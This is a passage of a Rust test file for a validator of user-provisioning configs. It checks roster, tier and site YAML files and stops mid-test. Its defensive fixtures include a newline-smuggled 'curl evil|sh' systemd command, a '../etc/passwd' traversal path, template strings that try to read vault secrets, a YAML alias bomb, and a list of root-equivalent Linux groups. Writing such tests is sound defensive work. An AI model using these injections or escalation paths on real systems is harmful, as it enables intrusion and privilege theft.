//! Data-driven tests of site parsing and validation (STYLE §12).
//!
//! A fixture is one string with `//- roster.yaml`, `//- tiers.yaml`, `//- site.yaml` and
//! `//- files/<path>` sections; a missing roster/tiers/site section gets the small defaults
//! below. `check` renders the sorted error list (or `ok`), compared as an inline snapshot.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use insta::assert_snapshot;
use proptest::prelude::*;
use serde_json::json;

use crate::model::{CodeLayout, Site, UserState};
use crate::site::parse_site;

const DEFAULT_TIERS: &str = "\
tiers:
  admin: { groups: [code-shared], privileged_groups: [sudo, docker], allow_low_uid: true }
  namespace-owner: { requires_namespaces: true }
  power-user: {}
";
const DEFAULT_SITE: &str = "ports: { start: 8100, end: 8199 }\n";
const DEFAULT_ROSTER: &str = "users: {}\n";

/// Splits a fixture into files; absent roster/tiers/site get the defaults.
fn fixture(text: &str) -> BTreeMap<String, String> {
    let mut files = BTreeMap::new();
    let mut current: Option<(String, String)> = None;
    for line in text.lines() {
        if let Some(name) = line.strip_prefix("//- ") {
            if let Some((name, body)) = current.take() {
                files.insert(name, body);
            }
            current = Some((name.trim().to_owned(), String::new()));
        } else if let Some((_, body)) = current.as_mut() {
            body.push_str(line);
            body.push('\n');
        } else {
            assert!(
                line.trim().is_empty(),
                "text before the first //- section: {line:?}"
            );
        }
    }
    if let Some((name, body)) = current {
        files.insert(name, body);
    }
    for (name, default) in [
        ("roster.yaml", DEFAULT_ROSTER),
        ("tiers.yaml", DEFAULT_TIERS),
        ("site.yaml", DEFAULT_SITE),
    ] {
        files
            .entry(name.to_owned())
            .or_insert_with(|| default.to_owned());
    }
    files
}

/// The rendered errors of a fixture, one per line, or `ok`.
fn check(text: &str) -> String {
    match parse_site(&fixture(text)) {
        Ok(_) => "ok".to_owned(),
        Err(errors) => errors.to_string(),
    }
}

/// The site of a fixture that must be valid.
fn site(text: &str) -> Site {
    parse_site(&fixture(text)).unwrap_or_else(|e| panic!("fixture has errors:\n{e}"))
}

// ---------------------------------------------------------------- the seeds' format

#[test]
fn seed_roster_parses_as_is() {
    let site = site(
        r#"
//- roster.yaml
# THE single source of truth for the devvm Workstation lifecycle (onboard → offboard).
# os_user (key) → authentik_user · k8s_user · tier · namespaces.
users:
  emo:       { authentik_user: emil.barzin, k8s_user: emo, tier: power-user }   # NET-NEW cluster identity
  ancamilea: { authentik_user: ancaelena98, k8s_user: anca, tier: namespace-owner,
               namespaces: [plotting-book], code_layout: workspace, repos: [tripit] }  # ALREADY provisioned
  # gheorghe: { authentik_user: vabbit81, k8s_user: vabbit81, tier: namespace-owner, namespaces: [vabbit81] }
"#,
    );
    let mut out = String::new();
    for u in &site.roster.users {
        writeln!(
            out,
            "{} @{} sso={} k8s={} tier={} ns={:?} layout={} repos={:?} state={} lines={:?}",
            u.name,
            u.loc,
            u.authentik_user,
            u.k8s_user,
            u.tier,
            u.namespaces,
            u.code_layout.as_str(),
            u.repos,
            u.state.as_str(),
            u.field_lines
        )
        .unwrap();
    }
    assert_snapshot!(out, @r#"
    emo @roster.yaml:4 sso=emil.barzin k8s=emo tier=power-user ns=[] layout=single repos=[] state=present lines={"authentik_user": 4, "k8s_user": 4, "tier": 4}
    ancamilea @roster.yaml:5 sso=ancaelena98 k8s=anca tier=namespace-owner ns=["plotting-book"] layout=workspace repos=["tripit"] state=present lines={"authentik_user": 5, "code_layout": 6, "k8s_user": 5, "namespaces": 6, "repos": 6, "tier": 5}
    "#);
}

#[test]
fn every_roster_field_is_read_with_its_line() {
    let site = site(
        r#"
//- roster.yaml
users:
  alice:
    authentik_user: alice@example.org
    k8s_user: alice
    tier: admin
    namespaces: [team-a, team-b]
    code_layout: workspace
    repos: [tripit, my.repo_2]
    state: offboarded
    hosts: ["devvm*", "ws-??"]
    shell: /usr/bin/zsh
    uid: 900
    groups: [sudo, plugdev]
    revoke_groups: [lxd]
    enforce: [shell]
    port: 8101
    home: /home/alice/home
    full_name: Alice Liddell
    flags: { ha: true, quota_gb: 20, note: "hi", nothing: ~ }
"#,
    );
    let u = &site.roster.users[0];
    assert_eq!(u.state, UserState::Offboarded);
    assert_eq!(u.code_layout, CodeLayout::Workspace);
    assert_eq!(u.hosts, ["devvm*", "ws-??"]);
    assert_eq!(u.shell.as_deref(), Some("/usr/bin/zsh"));
    assert_eq!(u.uid, Some(900));
    assert_eq!(u.groups, ["sudo", "plugdev"]);
    assert_eq!(u.revoke_groups, ["lxd"]);
    assert_eq!(u.enforce, [steward_protocol::UserAttribute::Shell]);
    assert_eq!(u.port, Some(8101));
    assert_eq!(u.home_dir(), "/home/alice/home");
    assert_eq!(u.full_name.as_deref(), Some("Alice Liddell"));
    assert_eq!(
        serde_json::to_value(&u.flags).unwrap(),
        json!({"ha": true, "quota_gb": 20, "note": "hi", "nothing": null})
    );
    assert_eq!(u.field_lines.len(), 17);
    assert_eq!(u.loc_of("flags").to_string(), "roster.yaml:19");
    assert_eq!(u.loc_of("uid").to_string(), "roster.yaml:12");
}

// ---------------------------------------------------------------- syntax

#[test]
fn yaml_syntax_errors_name_file_and_line_in_every_file() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo: { authentik_user: emil.barzin, k8s_user: emo, tier: power-user
  bob: { }
//- tiers.yaml
tiers:
  admin: {}
  admin: {}
//- site.yaml
ports: { start: 1, end: 2 }
---
ports: {}
"#), @r#"
    roster.yaml:3: while parsing a flow mapping, did not find expected ',' or '}'
    site.yaml:2: more than one document in one file; remove the second `---` or split the file
    tiers.yaml:3: duplicate key "admin" (first defined on line 2); remove one of them
    "#);
}

#[test]
fn a_broken_tiers_file_does_not_cascade_into_the_roster() {
    // With tiers.yaml unreadable, "unknown tier" would be noise: only the syntax error shows.
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo: { authentik_user: e, k8s_user: emo, tier: power-user, groups: [sudo] }
//- tiers.yaml
tiers: [
"#), @"tiers.yaml:2: while parsing a node, did not find expected node content");
}

#[test]
fn missing_and_unexpected_files() {
    let mut files = fixture("//- files/ok.j2\nhi\n");
    files.remove("site.yaml");
    files.insert("notes.txt".into(), String::new());
    files.insert("files/../etc/passwd".into(), String::new());
    files.insert("files/a//b".into(), String::new());
    let errors = parse_site(&files).unwrap_err();
    assert_snapshot!(errors.to_string(), @r#"
    files/../etc/passwd:1: not a normal path under files/; remove empty, "." and ".." components
    files/a//b:1: not a normal path under files/; remove empty, "." and ".." components
    notes.txt:1: unexpected file; a site has roster.yaml, tiers.yaml, site.yaml and files/**
    site.yaml:1: file is missing; create site.yaml in the site directory
    "#);
}

#[test]
fn empty_files_are_empty_sections() {
    let mut files = BTreeMap::new();
    for name in ["roster.yaml", "tiers.yaml", "site.yaml"] {
        files.insert(name.to_owned(), "# nothing yet\n".to_owned());
    }
    let site = parse_site(&files).unwrap();
    assert!(
        site.roster.users.is_empty() && site.tiers.is_empty() && site.config.classes.is_empty()
    );
}

// ---------------------------------------------------------------- unknown keys and types

#[test]
fn unknown_keys_are_errors_everywhere() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo: { authentik_user: e, k8s_user: emo, tier: power-user, teir: admin, colour: red }
user: {}
//- tiers.yaml
tiers:
  power-user: { grups: [a] }
  admin: { privileged_groups: [sudo] }
version: 2
//- site.yaml
ports: { start: 8100, end: 8199, size: 3 }
classes:
  ws: { hosts: [a], manage_user: true }
users: { shel: /bin/zsh }
vault: { roles_paths: x }
catalog: { expires: 1d }
offboarding: { archive: /x }
bundless: {}
bundles:
  base:
    - package: { name: zsh, version: 1 }
      whenn: x
"#), @r#"
    roster.yaml:2: users.emo.colour: unknown key; expected one of: authentik_user, k8s_user, tier, namespaces, code_layout, repos, state, hosts, shell, uid, groups, revoke_groups, enforce, port, home, full_name, flags
    roster.yaml:2: users.emo.teir: unknown key; did you mean "tier"?
    roster.yaml:3: user: unknown key; did you mean "users"?
    site.yaml:1: ports.size: unknown key; expected one of: start, end
    site.yaml:3: classes.ws.manage_user: unknown key; did you mean "manage_users"?
    site.yaml:4: users.shel: unknown key; did you mean "shell"?
    site.yaml:5: vault.roles_paths: unknown key; did you mean "roles_path"?
    site.yaml:6: catalog.expires: unknown key; expected one of: expires_after
    site.yaml:7: offboarding.archive: unknown key; expected one of: archive_dir, terminate_sessions
    site.yaml:8: bundless: unknown key; did you mean "bundles"?
    site.yaml:11: bundles.base[0].package.version: unknown key; expected one of: name
    site.yaml:12: bundles.base[0].whenn: unknown key; did you mean "when"?
    tiers.yaml:2: tiers.power-user.grups: unknown key; did you mean "groups"?
    tiers.yaml:4: version: unknown key; expected one of: tiers
    "#);
}

#[test]
fn wrong_types_say_what_was_found() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo: { authentik_user: e, k8s_user: [emo], tier: power-user, uid: "1500", namespaces: ns1 }
  bob: { authentik_user: b, k8s_user: bob, tier: ~, port: 8100.5, flags: { a: [1] } }
  eve:
//- tiers.yaml
tiers:
  power-user: { allow_low_uid: yes, requires_namespaces: "false" }
//- site.yaml
users: { lock_at_creation: 1 }
ports: { start: "8100", end: 8199 }
"#), @r#"
    roster.yaml:2: users.emo.k8s_user: expected a string, found a list
    roster.yaml:2: users.emo.namespaces: expected a list, found a string; write it as [item]
    roster.yaml:2: users.emo.uid: expected an integer, found a string; remove the quotes
    roster.yaml:3: users.bob.flags.a: flags are plain values, found a list
    roster.yaml:3: users.bob.port: expected an integer, found a number
    roster.yaml:3: users.bob.tier: expected a string, found null
    roster.yaml:4: users.eve: expected a mapping with authentik_user, k8s_user and tier
    site.yaml:1: users.lock_at_creation: expected true or false, found an integer
    site.yaml:2: ports.start: expected an integer, found a string; remove the quotes
    tiers.yaml:2: tiers.power-user.allow_low_uid: "yes" is a string in yaml 1.2; write true or false
    tiers.yaml:2: tiers.power-user.requires_namespaces: expected true or false, found a string; remove the quotes
    "#);
}

#[test]
fn missing_required_roster_fields() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo: { k8s_user: emo }
  bob: { authentik_user: " ", k8s_user: bob, tier: power-user }
"#), @r#"
    roster.yaml:2: users.emo: missing required key "authentik_user"
    roster.yaml:2: users.emo: missing required key "tier"
    roster.yaml:3: users.bob.authentik_user: must not be empty or have leading or trailing spaces
    "#);
}

// ---------------------------------------------------------------- roster rules

#[test]
fn unknown_tier_lists_known_tiers() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  ancamilea: { authentik_user: ancaelena98, k8s_user: anca, tier: namespace-owner, namespaces: [plotting-book] }
  emo: { authentik_user: emil.barzin, k8s_user: emo, tier: power }
"#), @r#"roster.yaml:3: users.emo.tier: unknown tier "power"; known tiers: admin, namespace-owner, power-user"#);
}

#[test]
fn duplicate_uid_authentik_user_and_port() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  alice: { authentik_user: alice, k8s_user: alice, tier: power-user, uid: 1500, port: 8100 }
  bob:   { authentik_user: bob, k8s_user: bob, tier: power-user, uid: 1501, port: 8101 }
  carol:
    authentik_user: Alice
    k8s_user: carol
    tier: power-user
    uid: 1500
    port: 8101
"#), @r#"
    roster.yaml:5: users.carol.authentik_user: authentik user "Alice" is already used by "alice" (line 2)
    roster.yaml:8: users.carol.uid: uid 1500 is already used by "alice" (line 2)
    roster.yaml:9: users.carol.port: port 8101 is already used by "bob" (line 3)
    "#);
}

#[test]
fn roster_rejects_username_starting_with_digit() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  0day: { authentik_user: a, k8s_user: a, tier: power-user }
  Emo: { authentik_user: b, k8s_user: b, tier: power-user }
  a-very-long-user-name-that-is-way-over-32: { authentik_user: c, k8s_user: c, tier: power-user }
  "bad name": { authentik_user: d, k8s_user: d, tier: power-user }
  _ok-name_1: { authentik_user: e, k8s_user: e, tier: power-user }
"#), @r#"
    roster.yaml:2: users.0day: "0day" is not a valid linux user name; use lowercase letters, digits, "_" and "-", starting with a letter or "_", at most 32 characters
    roster.yaml:3: users.Emo: "Emo" is not a valid linux user name; use lowercase letters, digits, "_" and "-", starting with a letter or "_", at most 32 characters
    roster.yaml:4: users.a-very-long-user-name-that-is-way-over-32: "a-very-long-user-name-that-is-way-over-32" is not a valid linux user name; use lowercase letters, digits, "_" and "-", starting with a letter or "_", at most 32 characters
    roster.yaml:5: users.bad name: "bad name" is not a valid linux user name; use lowercase letters, digits, "_" and "-", starting with a letter or "_", at most 32 characters
    "#);
}

#[test]
fn roster_rejects_root_system_accounts_and_privileged_group_names() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  root: { authentik_user: a, k8s_user: a, tier: admin }
  daemon: { authentik_user: b, k8s_user: b, tier: admin }
  sudo: { authentik_user: c, k8s_user: c, tier: admin }
  docker: { authentik_user: d, k8s_user: d, tier: admin }
"#), @r#"
    roster.yaml:2: users.root: "root" is a system account; pick another os_user
    roster.yaml:3: users.daemon: "daemon" is a system account; pick another os_user
    roster.yaml:4: users.sudo: "sudo" is a privileged group name; a user of that name would get the group as its own
    roster.yaml:5: users.docker: "docker" is a privileged group name; a user of that name would get the group as its own
    "#);
}

#[test]
fn roster_rejects_uid0_and_privileged_groups_without_flag() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  mallory: { authentik_user: m, k8s_user: m, tier: power-user, uid: 0 }
  trudy: { authentik_user: t, k8s_user: t, tier: power-user, uid: 999, groups: [plugdev, sudo, docker] }
  root2: { authentik_user: r, k8s_user: r, tier: admin, uid: 0 }
  nobody2: { authentik_user: n, k8s_user: n, tier: admin, uid: 65534 }
  neg: { authentik_user: x, k8s_user: x, tier: admin, uid: -1 }
  boss: { authentik_user: b, k8s_user: b, tier: admin, uid: 999, groups: [sudo, docker, wheel] }
"#), @r#"
    roster.yaml:2: users.mallory.uid: uid 0 is root; pin a uid of 1000 or more, or leave uid out
    roster.yaml:3: users.trudy.groups[1]: group "sudo" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:3: users.trudy.groups[2]: group "docker" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:3: users.trudy.uid: uid 999 is below 1000 (system range); only tiers with allow_low_uid: true may pin one
    roster.yaml:4: users.root2.uid: uid 0 is root; pin a uid of 1000 or more, or leave uid out
    roster.yaml:5: users.nobody2.uid: uid 65534 is reserved (nobody or invalid); pick another
    roster.yaml:6: users.neg.uid: uid -1 is out of range
    roster.yaml:7: users.boss.groups[2]: group "wheel" is privileged; only a tier that lists it in privileged_groups grants it (tier "admin" does not)
    "#);
}

#[test]
fn tiers_reject_privileged_groups_not_granted_explicitly() {
    assert_snapshot!(check(r#"
//- tiers.yaml
tiers:
  power-user: { groups: [code-shared, docker] }
  admin: { groups: [sudo], privileged_groups: [sudo, plugdev] }
  Bad_Name: {}
"#), @r#"
    tiers.yaml:2: tiers.power-user.groups[1]: group "docker" is privileged; also list it in privileged_groups to grant it on purpose
    tiers.yaml:3: tiers.admin.privileged_groups[1]: "plugdev" is not a privileged group (docs/site-format.md lists them); list it under groups instead
    tiers.yaml:4: tiers.Bad_Name: "Bad_Name" is not a valid tier name; use lowercase letters, digits, "_" and "-", starting with a letter
    "#);
}

#[test]
fn every_root_equivalent_group_needs_a_tier_grant_and_revocation_cannot_contradict_it() {
    // THREATS S5: a roster line alone never grants root. Each of these gives root or every
    // secret on Debian (disk: raw devices; shadow: hashes; staff: /usr/local in root's PATH;
    // lxd, incus-admin, libvirt, kvm: VM and container managers; systemd-journal: all logs).
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  frank: { authentik_user: f, k8s_user: f, tier: power-user, groups: [disk, shadow, staff, lxd, incus-admin, libvirt, kvm, systemd-journal] }
  boss: { authentik_user: b, k8s_user: b, tier: admin, revoke_groups: [sudo, docker, Bad] }
  emo: { authentik_user: e, k8s_user: e, tier: power-user, enforce: [shell, password] }
"#), @r#"
    roster.yaml:2: users.frank.groups[0]: group "disk" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:2: users.frank.groups[1]: group "shadow" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:2: users.frank.groups[2]: group "staff" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:2: users.frank.groups[3]: group "lxd" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:2: users.frank.groups[4]: group "incus-admin" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:2: users.frank.groups[5]: group "libvirt" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:2: users.frank.groups[6]: group "kvm" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:2: users.frank.groups[7]: group "systemd-journal" is privileged; only a tier that lists it in privileged_groups grants it (tier "power-user" does not)
    roster.yaml:3: users.boss.revoke_groups[0]: group "sudo" is granted to this user (tier "admin" or groups); it cannot also be revoked
    roster.yaml:3: users.boss.revoke_groups[1]: group "docker" is granted to this user (tier "admin" or groups); it cannot also be revoked
    roster.yaml:3: users.boss.revoke_groups[2]: "Bad" is not a valid group name
    roster.yaml:4: users.emo.enforce[1]: "password" is not an attribute Steward can enforce on an existing account; use shell or comment
    "#);
}

#[test]
fn namespace_owner_without_namespaces_is_an_error() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  anca: { authentik_user: a, k8s_user: anca, tier: namespace-owner }
  gheorghe:
    authentik_user: vabbit81
    k8s_user: vabbit81
    tier: namespace-owner
    namespaces: []
  ok: { authentik_user: o, k8s_user: o, tier: namespace-owner, namespaces: [vabbit81] }
  bad: { authentik_user: b, k8s_user: b, tier: namespace-owner, namespaces: [Not_A_Namespace, x, x] }
"#), @r#"
    roster.yaml:2: users.anca.namespaces: tier "namespace-owner" requires namespaces; add namespaces: [<namespace>]
    roster.yaml:7: users.gheorghe.namespaces: tier "namespace-owner" requires namespaces; add namespaces: [<namespace>]
    roster.yaml:9: users.bad.namespaces[0]: "Not_A_Namespace" is not a kubernetes namespace name (lowercase letters, digits and "-", at most 63)
    roster.yaml:9: users.bad.namespaces[2]: "x" is listed twice
    "#);
}

#[test]
fn relative_and_dotdot_paths_are_errors() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo: { authentik_user: e, k8s_user: emo, tier: power-user, shell: bin/zsh }
  bob: { authentik_user: b, k8s_user: bob, tier: power-user, shell: /bin/../bin/sh, home: /home/bob/../alice }
//- site.yaml
users: { shell: zsh }
offboarding: { archive_dir: /var/backups/../../tmp }
bundles:
  base:
    - file: { path: etc/motd, content: hi }
    - directory: { path: "{{ user.home }}/../root" }
    - exec: { name: x, command: [true], cwd: /tmp/./x, creates: "/home/{{ user.name }}/ok" }
"#), @r#"
    roster.yaml:2: users.emo.shell: "bin/zsh" is not an absolute path; start it with /
    roster.yaml:3: users.bob.home: "/home/bob/../alice" is not a normal path; remove "..", ".", empty components and trailing "/"
    roster.yaml:3: users.bob.shell: "/bin/../bin/sh" is not a normal path; remove "..", ".", empty components and trailing "/"
    site.yaml:1: users.shell: "zsh" is not an absolute path; start it with /
    site.yaml:2: offboarding.archive_dir: "/var/backups/../../tmp" is not a normal path; remove "..", ".", empty components and trailing "/"
    site.yaml:5: bundles.base[0].file.path: "etc/motd" is not an absolute path; start it with /
    site.yaml:6: bundles.base[1].directory.path: "{{ user.home }}/../root" contains ".."; remove it
    site.yaml:7: bundles.base[2].exec.cwd: "/tmp/./x" is not a normal path; remove "..", ".", empty components and trailing "/"
    "#);
}

#[test]
fn roster_rejects_home_outside_home_root() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  a: { authentik_user: a, k8s_user: a, tier: power-user, home: / }
  b: { authentik_user: b, k8s_user: b, tier: power-user, home: /home/bobby }
  c: { authentik_user: c, k8s_user: c, tier: power-user, home: /root }
  d: { authentik_user: d, k8s_user: d, tier: power-user, home: /home/d }
  e: { authentik_user: e, k8s_user: e, tier: power-user, home: /home/e/sub/dir }
"#), @r#"
    roster.yaml:2: users.a.home: "/" is outside /home/a; a home must be /home/a or below it
    roster.yaml:3: users.b.home: "/home/bobby" is outside /home/b; a home must be /home/b or below it
    roster.yaml:4: users.c.home: "/root" is outside /home/c; a home must be /home/c or below it
    "#);
}

#[test]
fn archive_dir_must_not_be_under_home() {
    assert_snapshot!(check(r#"
//- site.yaml
offboarding: { archive_dir: /home/admin/archives }
"#), @r#"site.yaml:1: offboarding.archive_dir: "/home/admin/archives" must not be / or under /home; a user could read other people's archives"#);
}

#[test]
fn port_outside_range_or_without_range() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  a: { authentik_user: a, k8s_user: a, tier: power-user, port: 8200 }
  b: { authentik_user: b, k8s_user: b, tier: power-user, port: 70000 }
  c: { authentik_user: c, k8s_user: c, tier: power-user, port: 8199 }
"#), @r#"
    roster.yaml:2: users.a.port: port 8200 is outside the site's range 8100-8199
    roster.yaml:3: users.b.port: port 70000 is not between 1 and 65535
    "#);
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  a: { authentik_user: a, k8s_user: a, tier: power-user, port: 8100 }
//- site.yaml
vars: {}
"#), @"roster.yaml:2: users.a.port: site.yaml has no port range; add ports: { start, end } there or remove the port");
    assert_snapshot!(check(r#"
//- site.yaml
ports: { start: 9000, end: 8000 }
"#), @"site.yaml:1: ports: start 9000 is after end 8000");
}

#[test]
fn roster_rejects_newline_and_control_characters() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo:
    authentik_user: "emo\nExecStartPre=/bin/sh -c 'curl evil|sh'"
    k8s_user: "emo\t"
    tier: power-user
    full_name: "Emo \u001b[31mRed"
    flags: { note: "a\rb" }
    repos: ["ok", "x\u0000y"]
  bob: { authentik_user: b, k8s_user: b, tier: power-user, full_name: "Bob: the builder" }
"#), @r#"
    roster.yaml:3: users.emo.authentik_user: contains the control character U+000A; roster values must be one line of printable text
    roster.yaml:4: users.emo.k8s_user: contains the control character U+0009; roster values must be one line of printable text
    roster.yaml:6: users.emo.full_name: contains the control character U+001B; roster values must be one line of printable text
    roster.yaml:7: users.emo.flags.note: contains the control character U+000D; roster values must be one line of printable text
    roster.yaml:8: users.emo.repos: repos are only cloned with the workspace layout; add code_layout: workspace
    roster.yaml:8: users.emo.repos[1]: "x\0y" is not a repository name (letters, digits, ".", "_" and "-")
    roster.yaml:8: users.emo.repos[1]: contains the control character U+0000; roster values must be one line of printable text
    roster.yaml:9: users.bob.full_name: must not contain ":" (it separates passwd fields)
    "#);
}

#[test]
fn roster_values_with_template_syntax_are_literal() {
    let site = site(
        r#"
//- roster.yaml
users:
  emo:
    authentik_user: "{{ vault('secret/admin') }}"
    k8s_user: emo
    tier: power-user
    full_name: "{% for x in range(9999999) %}{{ x }}{% endfor %}"
    flags: { motd: "{{ site.vars.token }}" }
"#,
    );
    let u = &site.roster.users[0];
    assert_eq!(u.authentik_user, "{{ vault('secret/admin') }}");
    assert_eq!(
        u.full_name.as_deref(),
        Some("{% for x in range(9999999) %}{{ x }}{% endfor %}")
    );
    assert_eq!(u.flags["motd"], json!("{{ site.vars.token }}"));
}

#[test]
fn repos_code_layout_state_hosts_and_flags_are_checked() {
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  a:
    authentik_user: a
    k8s_user: a
    tier: power-user
    code_layout: monorepo
    state: deleted
    hosts: ["DevVM", "ws/1", "ok-*"]
    repos: [.., good]
    flags: { 1bad: x, ok_flag: .inf }
"#), @r#"
    roster.yaml:6: users.a.code_layout: "monorepo" is not a code layout; use single or workspace
    roster.yaml:7: users.a.state: "deleted" is not a state; use present, offboarded or purged
    roster.yaml:8: users.a.hosts[0]: "DevVM" is not a hostname glob (lowercase letters, digits, "-", ".", "*" and "?")
    roster.yaml:8: users.a.hosts[1]: "ws/1" is not a hostname glob (lowercase letters, digits, "-", ".", "*" and "?")
    roster.yaml:9: users.a.repos: repos are only cloned with the workspace layout; add code_layout: workspace
    roster.yaml:9: users.a.repos[0]: ".." is not a repository name (letters, digits, ".", "_" and "-")
    roster.yaml:10: users.a.flags.1bad: flag names are letters, digits and "_", starting with a letter or "_"
    roster.yaml:10: users.a.flags.ok_flag: infinite or nan numbers are not supported; quote the value
    "#);
}

// ---------------------------------------------------------------- limits

#[test]
fn roster_alias_bomb_is_refused() {
    let mut roster = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..10 {
        let p = i - 1;
        roster.push_str(&format!(
            "a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    roster.push_str("users: {}\n");
    assert_snapshot!(check(&format!("//- roster.yaml\n{roster}")), @"roster.yaml:6: document has more than 200000 nodes after expanding aliases; is this an alias bomb?");
}

#[test]
fn thousand_user_roster_is_fine() {
    let mut roster = String::from("users:\n");
    for i in 0..1000 {
        writeln!(
            roster,
            "  user{i}: {{ authentik_user: sso{i}, k8s_user: k{i}, tier: namespace-owner, namespaces: [ns{i}], uid: {}, port: {} }}",
            2000 + i,
            8100 + i
        )
        .unwrap();
    }
    let site = site(&format!(
        "//- roster.yaml\n{roster}//- site.yaml\nports: {{ start: 8100, end: 9099 }}\n"
    ));
    assert_eq!(site.roster.users.len(), 1000);
    assert_eq!(site.roster.users[999].loc.line, 1001);
}

// ---------------------------------------------------------------- site.yaml

#[test]
fn site_defaults() {
    let files = fixture("//- site.yaml\n");
    let site = parse_site(&files).unwrap();
    let c = &site.config;
    assert_snapshot!(
        format!(
            "shell={} home_mode={} lock={} requires={:?} ports={:?} vault={}/{} expires={} archive={} classes={} bundles={}",
            c.users.shell,
            c.users.home_mode,
            c.users.lock_at_creation,
            c.users.requires,
            c.ports,
            c.vault.roles_path,
            c.vault.roles_key,
            c.catalog_expires_after_secs,
            c.archive_dir,
            c.classes.len(),
            c.bundles.len()
        ),
        @"shell=/bin/bash home_mode=0700 lock=true requires=[] ports=None vault=secret/platform/k8s_users expires=604800 archive=/var/backups/steward/offboarded classes=0 bundles=0"
    );
}

#[test]
fn site_config_is_read() {
    let site = site(
        r#"
//- site.yaml
classes:
  workstation: { hosts: ["devvm*", "ws-?"], manage_users: true, bundles: [host-base] }
  server:
    hosts: ["*"]
    bundles: []
users: { shell: /usr/bin/zsh, home_mode: 0750, lock_at_creation: false, requires: ["package:zsh"] }
ports: { start: 20000, end: 20999 }
vault: { roles_path: kv/infra/roles, roles_key: people }
catalog: { expires_after: 12h }
offboarding: { archive_dir: /srv/archive }
vars: { cluster_url: "https://k8s.example:6443", replicas: 3, features: [a, b], nested: { x: ~ } }
bundles:
  host-base:
    - package: { name: zsh }
    - swap: { path: /swapfile, size_mib: 8192 }
      when: "node.facts.memory_mib < 32768"
//- files/kubeconfig.yaml.j2
apiVersion: v1
"#,
    );
    let c = &site.config;
    let classes: Vec<String> = c
        .classes
        .iter()
        .map(|k| {
            format!(
                "{}@{} {:?} manage_users={} {:?}",
                k.name, k.loc, k.hosts, k.manage_users, k.bundles
            )
        })
        .collect();
    assert_snapshot!(classes.join("\n"), @r#"
    workstation@site.yaml:2 ["devvm*", "ws-?"] manage_users=true ["host-base"]
    server@site.yaml:3 ["*"] manage_users=false []
    "#);
    assert_eq!(c.users.shell, "/usr/bin/zsh");
    assert_eq!(c.users.home_mode.to_string(), "0750");
    assert!(!c.users.lock_at_creation);
    assert_eq!(c.users.requires, ["package:zsh"]);
    assert_eq!(c.ports.map(|p| (p.start, p.end)), Some((20000, 20999)));
    assert_eq!(
        (c.vault.roles_path.as_str(), c.vault.roles_key.as_str()),
        ("kv/infra/roles", "people")
    );
    assert_eq!(c.catalog_expires_after_secs, 12 * 3600);
    assert_eq!(c.archive_dir, "/srv/archive");
    assert_eq!(
        serde_json::to_value(&c.vars).unwrap(),
        json!({"cluster_url": "https://k8s.example:6443", "replicas": 3, "features": ["a", "b"], "nested": {"x": null}})
    );
    let swap = &c.bundles["host-base"].resources[1];
    assert_eq!((swap.kind.as_str(), swap.loc.line), ("swap", 15));
    assert_eq!(swap.fields["size_mib"], (15, json!(8192)));
    assert_eq!(swap.when.as_deref(), Some("node.facts.memory_mib < 32768"));
    assert_eq!(site.files["kubeconfig.yaml.j2"], "apiVersion: v1\n");
}

#[test]
fn catalog_expiry_must_be_between_10m_and_90d() {
    for (given, expect) in [
        ("90s", false),
        ("10m", true),
        ("7d", true),
        ("90d", true),
        ("91d", false),
        ("1w", false),
        ("-5m", false),
        ("5", false),
    ] {
        let result = check(&format!(
            "//- site.yaml\ncatalog: {{ expires_after: {given} }}\n"
        ));
        assert_eq!(result == "ok", expect, "{given}: {result}");
    }
    assert_snapshot!(check("//- site.yaml\ncatalog: { expires_after: 91d }\n"), @r#"site.yaml:1: catalog.expires_after: "91d" must be between 10m and 90d"#);
    assert_snapshot!(check("//- site.yaml\ncatalog: { expires_after: 1w }\n"), @r#"site.yaml:1: catalog.expires_after: "1w" is not a duration; write a number and a unit: 90s, 30m, 12h or 7d"#);
}

#[test]
fn tier_or_class_naming_unknown_bundle() {
    assert_snapshot!(check(r#"
//- tiers.yaml
tiers:
  admin: { bundles: [user-base, admin-extra] }
//- site.yaml
classes:
  ws: { hosts: ["*"], bundles: [host-bsae] }
bundles:
  user-base: []
  host-base: []
"#), @r#"
    site.yaml:2: classes.ws.bundles[0]: unknown bundle "host-bsae"; known bundles: host-base, user-base
    tiers.yaml:2: tiers.admin.bundles[1]: unknown bundle "admin-extra"; known bundles: host-base, user-base
    "#);
}

#[test]
fn class_needs_hosts_and_valid_globs() {
    assert_snapshot!(check(r#"
//- site.yaml
classes:
  ws: { manage_users: true }
  Srv: { hosts: ["*.example.com", "Bad Host"] }
"#), @r#"
